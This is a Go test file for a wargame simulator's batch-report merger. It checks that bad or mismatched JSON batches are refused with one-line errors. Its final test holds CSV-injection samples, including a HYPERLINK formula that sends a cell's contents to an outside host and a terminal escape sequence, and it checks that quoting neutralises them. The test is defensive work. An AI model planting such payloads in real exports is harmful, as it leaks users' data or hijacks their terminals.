package whatif

import (
	"bytes"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"ili/game/ai"
)

// batchJSON is a small batch of nilka-1944 as ili sim writes it.
func batchJSON(t testing.TB, seed uint64, runs int) []byte {
	set := setupFor(t, "nilka-1944", ai.Random, ai.Random)
	var buf bytes.Buffer
	enc, _ := NewEncoder("json", &buf)
	if _, err := Stream(set, Meta{Scenario: "nilka-1944"}, Options{Runs: runs, Seed: seed}, enc); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// edit decodes a batch's JSON, changes it and encodes it again, indented.
func edit(t *testing.T, data []byte, change func(map[string]any)) []byte {
	var obj map[string]any
	if err := json.Unmarshal(data, &obj); err != nil {
		t.Fatal(err)
	}
	change(obj)
	out, _ := json.MarshalIndent(obj, "", " ")
	return out
}

func result(obj map[string]any, i int) map[string]any {
	return obj["results"].([]any)[i].(map[string]any)
}

// TestMergeRefuses: a batch that is not whole, not consistent or not of the
// first one's setup is refused with one sentence that names the file and,
// where the problem stands in it, the line and column; nothing panics.
func TestMergeRefuses(t *testing.T) {
	good, other := batchJSON(t, 1, 4), batchJSON(t, 10, 3)
	str := func(s string) func(string) []byte {
		return func(v string) []byte { return bytes.Replace(good, []byte(s), []byte(v), 1) }
	}
	for _, c := range []struct {
		name string
		data []byte
		want string
	}{
		{"empty", edit(t, good, func(o map[string]any) { o["results"], o["runs"] = []any{}, 0 }), `:the batch has no results`},
		{"null", edit(t, good, func(o map[string]any) { o["results"] = nil }), `:the batch has no results`},
		{"negative", edit(t, good, func(o map[string]any) { o["runs"] = -4 }), `:runs is -4`},
		{"count", edit(t, good, func(o map[string]any) { o["runs"] = 9 }), `:runs is 9 but the batch holds 4 results`},
		{"winner", edit(t, good, func(o map[string]any) { result(o, 2)["winner"] = "martians" }), `:the winner of seed 3 is "martians", which is no side`},
		{"order", edit(t, good, func(o map[string]any) { result(o, 2)["seed"] = 2 }), `:seed 2 comes after seed 2`},
		{"first seed", edit(t, good, func(o map[string]any) { o["seed"] = 7 }), `:seed is 7 but the first result's seed is 1`},
		{"format", edit(t, good, func(o map[string]any) { o["format"] = "ili-sim/99" }), `:the batch was written by another version`},
		{"no format", edit(t, good, func(o map[string]any) { delete(o, "format") }), `no format field`},
		{"no sides", edit(t, good, func(o map[string]any) { delete(o, "sides") }), `names no sides`},
		{"seed overflow", str(`"seed": 1,`)(`"seed": 18446744073709551616,`), `:seed is a number 18446744073709551616, not a whole number from 0`},
		{"negative seed", str(`{"seed":2,`)(`{"seed":-2,`), `:results.seed is a number -2`},
		{"turns", edit(t, good, func(o map[string]any) { result(o, 1)["turns"] = -7 }), `:seed 2: it lasted -7 turns`},
		{"commands", edit(t, good, func(o map[string]any) { result(o, 1)["commands"] = -1 }), `:seed 2: it gave -1 commands`},
		{"men lost", edit(t, good, func(o map[string]any) {
			result(o, 0)["losses"] = map[string]any{"insurgents": map[string]any{"men": -5}}
		}), `:seed 1: the losses of "insurgents" hold -5`},
		{"a capture", edit(t, good, func(o map[string]any) {
			result(o, 0)["captures"] = []any{map[string]any{"place": "atlantis", "side": "zog", "turn": 2}}
		}), `:seed 1: a capture of "atlantis" by "zog"`},
		{"cut short", good[:len(good)/2], `:cut short`},
		{"not JSON", []byte("title = \"x\"\n"), `:not a batch`},
		{"an array", []byte("[1, 2]"), `:an array`},
		{"trailing", append(append([]byte(nil), good...), "{}"...), `:not a batch`},
	} {
		t.Run(c.name, func(t *testing.T) {
			checkError(t, mergeFiles(c.data, other), c.want)
		})
	}
}

// checkError fails unless err is one line that starts with b.json and
// matches want, where a leading ":" asks for a line and a column.
func checkError(t *testing.T, err error, want string) {
	t.Helper()
	if pos, ok := strings.CutPrefix(want, ":"); ok {
		want = `^b\.json:\d+:\d+: .*` + pos
	} else {
		want = `^b\.json: .*` + want
	}
	if err == nil || !regexp.MustCompile(want).MatchString(err.Error()) || strings.Contains(err.Error(), "\n") {
		t.Errorf("got %v, want %s", err, want)
	}
}

// mergeFiles reads data as b.json and merges it after a.json, or alone when
// a is nil.
func mergeFiles(data, a []byte) error {
	b, err := ReadReport("b.json", data)
	if err != nil {
		return err
	}
	reps := []*Report{b}
	if a != nil {
		ra, err := ReadReport("a.json", a)
		if err != nil {
			return err
		}
		reps = []*Report{ra, b}
	}
	_, err = Merge(reps)
	return err
}

// TestMergeRefusesOtherSetups: batches of another scenario, file, variants,
// --set values, AI levels, sides or places, or with a seed in both, do not
// merge, and the error says which and where.
func TestMergeRefusesOtherSetups(t *testing.T) {
	a, b := batchJSON(t, 1, 3), batchJSON(t, 4, 3)
	for _, c := range []struct {
		change func(map[string]any)
		want   string
	}{
		{func(o map[string]any) { o["scenario"] = "ghulja-1944" }, `:the batch is of scenario ghulja-1944, not nilka-1944 like a.json`},
		{func(o map[string]any) { o["scenario_hash"] = "0" }, `:another version of nilka-1944's file`},
		{func(o map[string]any) { o["variants"] = []any{"no-trucks"} }, `:variants \[no-trucks\], not \[\]`},
		{func(o map[string]any) { o["set"] = []any{"turns=3"} }, `:--set values \[turns=3\]`},
		{func(o map[string]any) { o["ai"] = map[string]any{"insurgents": "hard"} }, `:other AI levels \(insurgents=hard\) than a.json \(insurgents=random, provincial=random\)`},
		{func(o map[string]any) { o["sides"] = []any{"provincial", "insurgents"} }, `:the batch's sides are \[provincial, insurgents\], not \[insurgents, provincial\]`},
		{func(o map[string]any) { o["places"] = []any{"nilka"} }, `:the batch's places are \[nilka\]`},
		{func(o map[string]any) { o["seed"] = 3; result(o, 0)["seed"] = 3 }, `:seed 3 is in two batches, this one and a.json`},
	} {
		checkError(t, mergeFiles(edit(t, b, c.change), a), c.want)
	}
	if err := mergeFiles(b, a); err != nil {
		t.Errorf("two halves: %v", err)
	}
	if _, err := Merge(nil); err == nil {
		t.Error("nothing merged without a word")
	}
}

// TestReadsOldLayout: a batch written before streaming, indented
// throughout with the summary before the results, reads and merges.
func TestReadsOldLayout(t *testing.T) {
	a, b := batchJSON(t, 1, 2), batchJSON(t, 3, 2)
	rep, err := ReadReport("b.json", b)
	if err != nil {
		t.Fatal(err)
	}
	old, _ := json.MarshalIndent(struct {
		Head
		Summary Summary  `json:"summary"`
		Results []Result `json:"results"`
	}{rep.Head, rep.Summary, rep.Results}, "", " ")
	if err := mergeFiles(old, a); err != nil {
		t.Errorf("the old layout: %v", err)
	}
	if err := mergeFiles(bytes.Replace(old, []byte(`"winner": "`), []byte(`"winner": "x`), 1), a); err == nil || !strings.HasPrefix(err.Error(), "b.json:") {
		t.Errorf("a bad winner in the old layout: %v", err)
	}
}

// FuzzReadReport: whatever a file holds, reading it as a batch and merging
// it neither panics nor says more than one line.
func FuzzReadReport(f *testing.F) {
	f.Add(batchJSON(f, 1, 2))
	f.Add([]byte(`{"format":"ili-sim/2","sides":["a"],"runs":1,"results":[{"seed":0,"winner":"a"}],"results":null}`))
	f.Add([]byte(`{"format":"ili-sim/2","sides":["a"],"runs":2,"seed":5,"results":[{"seed":5},{"seed":5}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		rep, err := ReadReport("f.json", data)
		if err == nil {
			_, err = Merge([]*Report{rep, rep})
		}
		if err != nil && strings.Contains(err.Error(), "\n") {
			t.Errorf("more than one line: %q", err)
		}
	})
}

// TestCSVFieldsAreInert: a field read from a batch file can neither run as
// a spreadsheet formula nor send escapes to a terminal.
func TestCSVFieldsAreInert(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"x")`: `"'=HYPERLINK(""http://x/?""&A1,""x"")"`,
		"\x1b[2Jcleared":                  " [2Jcleared",
		"-1+1":                            "'-1+1",
		"held, then lost":                 `"held, then lost"`,
		"plain":                           "plain",
	} {
		if got := csvQuote(in); got != want {
			t.Errorf("csvQuote(%q) = %q, want %q", in, got, want)
		}
	}
}
